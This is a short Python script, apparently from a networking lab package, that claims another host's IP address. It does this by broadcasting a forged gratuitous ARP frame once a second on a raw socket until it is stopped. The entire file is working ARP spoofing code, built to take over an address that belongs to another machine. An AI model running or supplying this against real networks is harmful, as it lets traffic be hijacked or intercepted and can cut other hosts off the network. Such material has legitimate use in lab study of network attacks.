"""Claim another's address: `python -m lab.claim INTERFACE ADDRESS` shouts it once a second."""

import socket
import sys
import time


def announcement(mac: bytes, address: bytes) -> bytes:
    """Return a gratuitous ARP frame (RFC 5227: a request for one's own address)."""
    ethernet = b"\xff" * 6 + mac + b"\x08\x06"
    return ethernet + bytes.fromhex("0001080006040001") + mac + address + bytes(6) + address


def claim(interface: str, address: str) -> None:
    """Announce the address until killed."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as mouth:
        mouth.bind((interface, 0))
        while True:
            mouth.send(announcement(mouth.getsockname()[4], socket.inet_aton(address)))
            time.sleep(1)


if __name__ == "__main__":
    claim(*sys.argv[1:3])
